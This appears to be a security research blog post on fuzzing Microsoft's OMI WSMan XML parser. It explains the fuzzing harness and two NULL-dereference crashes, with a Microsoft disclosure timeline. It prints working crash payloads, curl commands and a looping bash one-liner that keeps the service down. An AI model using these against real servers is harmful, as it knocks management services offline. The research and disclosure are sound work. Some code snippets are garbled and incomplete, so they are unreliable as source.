This article provides a brief overview of how Microsoft Open Management Infrastructure (OMI) works, as well as two vulnerabilities that the Quarkslab Cloud team identified through fuzzing techniques.

Open Management Infrastructure (OMI)

You may already know about Microsoft Open Management Infrastructure (OMI) because of the previously disclosed vulnerabilities, such as OMIGOD, which allowed remote code execution and privilege escalation to the root user just by omitting the authentication header in the HTTP request.

OMI is widely used by Microsoft Azure under the hood, even though they are currently trying to reduce its use.For example, Azure Logs Analytics, which uses OMI, is slowly being replaced by Azure Monitor, which doesn't seem to use it.

But, what is the purpose of OMI?

Microsoft Open Management Infrastructure is an implementation of the DMTF Common Information Model (CIM) and Web-Based Enterprise Management (WBEM) standards that aims to be available for almost all Unix- and Linux-based operating systems. In some ways, we could say it brings Windows Management Infrastructure (WMI) to the Unix and Linux world. OMI doesn't implement all the techniques described by the WBEM but only CIM and WS-Management (WSMan).

In a few words, these standards define operations for management of computer resources such as CPUs, memory, and processes using pluggable modules which represent CIM Objects, calledproviders. Instances of the objects can be created, called, their properties modified, their methods can be invoked, etc.

There are two different ways we can communicate with OMI:

  • A custom-made binary protocol (local);
  • Through the WSMan protocol (remote and local).

The local binary protocol is obscure and not documented whereas WSMan is well-known and also uses common underlying technologies such as SOAP over HTTP. SOAP is entirely built on XML, which is always a great target for vulnerability research, especially when the parser iscustom-made and developed in the C language.

OMI Architecture

OMI executes two binaries as daemons, omiengine, and omiserver. The former runs as the omi unprivileged user while the latter runs as root. Their relation can be compared to that of front-end and back-end servers. omiengine receives both internal and external requests, from HTTP or its Unix socket, parses them, unpacks if necessary and forwards them to the server if the request seems legit.

The front-end omiengine creates two sockets:

  • A Unix socket, world-writable where UID and GID of the local users are used to identify them;
  • A TCP socket for HTTP/HTTPS.

The omiserver creates a single unix socket which is only accessible by the user omi, that being omiengine.

OMI structure

Let's fuzz

We chose fuzzing as one of our approaches to search for vulnerabilities in OMI. The most difficult part of this technique is generally to create a harness that mimics a regular context of execution as much as possible. To do that, we need to find the relevant source code, and understand its logic and data flows as a prerequisite. We were lucky here because the setup is pretty straightforward once you understand the custom build logic, and doesn't require complex prerequisites as shown below.


The function that processes the actual WSMan payload is _HttpProcessRequest defined in Unix/wsman/wsman.c line 4370.An XML data structure is created and after a few verifications, initialized using &selfCD->wsman->xml, one of the arguments of the function. We'll see why this line is very important a bit later.

static void _HttpProcessRequest(
    _In_WSMAN_ConnectionData*   selfCD,
    _In_    const HttpHeaders*      headers,
    _In_    Page*                   page);

    XML * xml = (XML *) PAL_Calloc(1, sizeof (XML));

    if (!xml)
        if( NULL != page )

    memcpy(xml, &selfCD->wsman->xml, sizeof(XML));

After checking the HTTP headers and ensuring that the protocol that is used is indeed SOAP with XML, the XML payload is attached to the XML structure using the XML_SetTextfunction.

The two main functions that parse the XML contents are then consecutively called:

  • WS_ParseSoapEnvelope(XML* xml) with the xml content as argument.
  • WS_ParseWSHeader(XML* xml, WSMAN_WSHeader* wsheader, UserAgent userAgent) with the xml content, the WSMan headers and the user agent.
XML_SetText(xml, (ZChar*)(page + 1));

/* Parse SOAP Envelope */
if (WS_ParseSoapEnvelope(xml) != 0 ||
    _CD_SendFaultResponse(selfCD, NULL, WSBUF_FAULT_INTERNAL_ERROR, xml->message);
    goto Done;

/* Parse WS header */
if (WS_ParseWSHeader(xml, &selfCD->wsheader, selfCD->userAgent) != 0 ||
    _CD_SendFaultResponse(selfCD, NULL, WSBUF_FAULT_INTERNAL_ERROR, xml->message);
    goto Done;At the beginning, the code coverage of the fuzzing campaign was poor. After further investigation, we identified the following line and realized its importance.

memcpy(xml, &selfCD->wsman->xml, sizeof(XML));

Remember it? This is where the XML structure is initialized at the beginning of the _HttpProcessRequest function. &selfCD->wsman->xml actually refers to a XML structure defined during the initialization of the WSMan server, in the WSMAN_New_Listener function defined line 4584 of Unix/wsman/wsman.c. We actually need to register the XML namespaces, otherwise our XML payload will never be entirely parsed because it will search for them first.

We can see it at the end of the function:


    XML_RegisterNameSpace(&self->xml, 's',XML_RegisterNameSpace(&self->xml, 'a',

    /* [...] */

    XML_RegisterNameSpace(&self->xml, 'x',

    XML_RegisterNameSpace(&self->xml, MI_T('e'),

    XML_RegisterNameSpace(&self->xml, MI_T('h'),

We basically discovered the requirements to pass the first checks to fuzz our target.

Choosing the fuzzer and writing the harness

Now that we have gathered all the prerequisites, we can start developing the harness. Our parsing function is composed of the registration of the namespaces, and the two functions we identified earlier:

int parse_xml(const char *data)
    XML xml;
    XML_RegisterNameSpace(&xml, 's',

    XML_RegisterNameSpace(&xml, 'a',

    XML_RegisterNameSpace(&xml, 'w',

    XML_RegisterNameSpace(&xml, 'n',

    XML_RegisterNameSpace(&xml, 'b',

    XML_RegisterNameSpace(&xml, 'p',

    XML_RegisterNameSpace(&xml, 'i',

    XML_RegisterNameSpace(&xml, 'x',XML_RegisterNameSpace(&xml, 'e',

    XML_RegisterNameSpace(&xml, MI_T('h'),

    XML_SetText(&xml, &data[0]);

    if (WS_ParseSoapEnvelope(&xml) != 0)
        return 1;

    WSMAN_WSHeader wsheader;
    UserAgent userAgent = USERAGENT_WINRM;
    if (WS_ParseWSHeader(&xml, &wsheader, userAgent) != 0)
        return 2;

    return 0;

Our choice was the HonggFuzz fuzzer. Our target seems to be eligible for persistent mode, so we could use it. Persistent mode avoids repeated clones/execs and exit of the fuzzed binary. Instead, it tests newinput data within the same process which largely increases the fuzzing speed (10x to 100x). There are two different ways to use it within HonggFuzz as per their documentation:

  • By defining the LLVMFuzzerTestOneInput function, which describes what to do for one test case, similarly to what you would do with libFuzzer.
  • By calling the HF_ITER symbol to fetch new input and length.

The LLVMFuzzerTestOneInput solution was more intuitive to us, let's see it in practice:

int LLVMFuzzerTestOneInput(int* data, size_t len)
    // add a null byte at the end of the payload
    char* mydata = malloc(len+1);
    memcpy(mydata, data, len);
    mydata[len] = '\0';

    // call the parser

    return 0;

The results

The fuzzing campaignallowed to quickly find two crashes for different reasons that could be exploited as an authenticated user. Both result in the crash and the shutting down of the OMI processes (i.e. omiengine and omiserver). When omiengine unexpectedly disappears, omiserver quits. Thus, every local user can stop OMI with specific XML payloads. Note that if the service is managed using systemd or equivalent, the omid.service will be automatically restarted after the crash. However, it is possible to script this action, or create a cron job to take the server down indefinitely.

First issue: NULL pointer dereference read in _ParseEndTagThe issue is located in the _ParseEndTag function and happens because of the bad parsing of a malformed XML. This function will call _FindNamespace that will return NULL if there is an existing namespace in the closing tag which was not identified as valid and previously registered. Coming back to _ParseEndTag, line 1130 of Unix/xml/xml.c, a condition statement will dereference the NULL pointer returned by _FindNamespace before performing a check. This causes a crash.

Here is the problematic piece of code:

const XML_NameSpace *ns;
/* [...] */
ns = _FindNamespace(self, prefix);
if (ns)
    /* [...] */
/* Match opening name */
    /* [...] */
        XML_Name* xn = &self->stack[self->stackSize];

        if (XML_strcmp(xn->data, name) != 0 ||
            xn->namespaceId != ns->id || // crash when dereferencing ns->id if ns is NULL
            (ns->id == 0 && XML_strcmp(xn->namespaceUri, ns->uri) != 0))
                tcs(self->stack[self->stackSize].data), tcs(name));

A NULL check is performed just after _FindNamespace has returned but when the execution flow arrives at the conditional branch XML_strcmp(xn->data, name) != 0 || xn->namespaceId != ns->id, the pointer ns can point to NULL and thus, if the XML_strcmp is successful (because in our example, next section, the "Quarkslab" tag matches), this second condition is executed which produces the crash.


Presented below is the minimal XML payload which triggers the issue, please note that the "Quarkslab" tag and "X" namespace are arbitrary and canbe changed to anything (except to "s" for the namespace, providing the intended input):

<s:Envelope xmlns:s="" ><s:Header><s:Quarkslab></X:Quarkslab>

Here is an example of thefull request with curl which will take the service down (if you have auser username with the password password on the machine):

curl -v <url>:5985/wsman/ -H "Content-Type: application/soap+xml;charset=UTF-8" -H "Authorization: Basic `echo -n username:password | base64`" --data '<s:Envelope xmlns:s="" ><s:Header><s:Quarkslab></X:Quarkslab>'

Second issue: NULL pointer dereference write in _ParseCharData

The issue lies in the Unix/xml/xml.c function _ParseCharData from line 1341 to line 1365:

end = _ReduceCharData(self, &p);

if (self->status)
    /* Propagate error */
    return 0;

/* Process character data */
if (*p != '<')
    return 0;

/* Set next state */self->ptr = p + 1;
self->state = STATE_TAG;

/* Return character data element if non-empty */
if (end == start)
    return 0;

/* Prepare element */
*end = '\0';

In some cases, _ReduceCharData can return a NULL pointer explicitly (in our situation it is line 450):

/* Document cannot end with character data */
if (*p == '\0')
    return NULL;

Thus, the last line on the snippet of _ParseCharData above, line 1365 in Unix/xml/xml.c just crashes on a *NULL = '\0'.


Presented below is the minimal XML payload which triggers the issue:

<s:Envelope xmlns:s="" ><s:Header><

The example above in a fullrequest with curl which takes the service down could be (if you have a user username with the password password on the machine):

curl -v localhost:5985/wsman/ -H "Content-Type: application/soap+xml;charset=UTF-8" -H "Authorization: Basic `echo -n username:password | base64`" --data '<s:Envelope xmlns:s="" ><s:Header><'

If systemd or equivalent restarts the service indefinitely, you can make the server unavailable with a simple bash one-liner similar to this:

while true; do curl -v localhost:5985/wsman/ -H "Content-Type: application/soap+xml;charset=UTF-8" -H "Authorization: Basic `echo -n username:password | base64`" --data '<s:Envelope xmlns:s="" ><s:Header><'; sleep 6; done


As demonstrated in this blog post, those two vulnerabilities were not so difficult to find using basic fuzzing techniques. Microsoft's goal of bringing some kind of unified way to administrate different operating systems using an open source project such as OMI is noble. However, there seems to be a big contrast between its widespread use on Microsoft Azure and the little security scrutiny that the project has received. In our opinion, the maturity of the project's source code would certainly benefit from more visibility and scrutiny.Disclosure Timeline

  • 2022-11-30 Quarkslab sent the vulnerability report to Microsoft.
  • 2022-12-02 Microsoft acknowledged the report and said it had opened a case.
  • 2023-01-12 Microsoft indicated that they investigated the report and had informed the appropriate team about the issues. They said the issues were determined to be of Moderate severity and would be addressed in a future version of this product, targeted to be released by February 2023.
  • 2023-01-24 Microsoft sent an update saying that the fix would be addressed tentatively by March 2023. Asked if Quarkslab had any concerns with this timeline or had any disclosure plans.
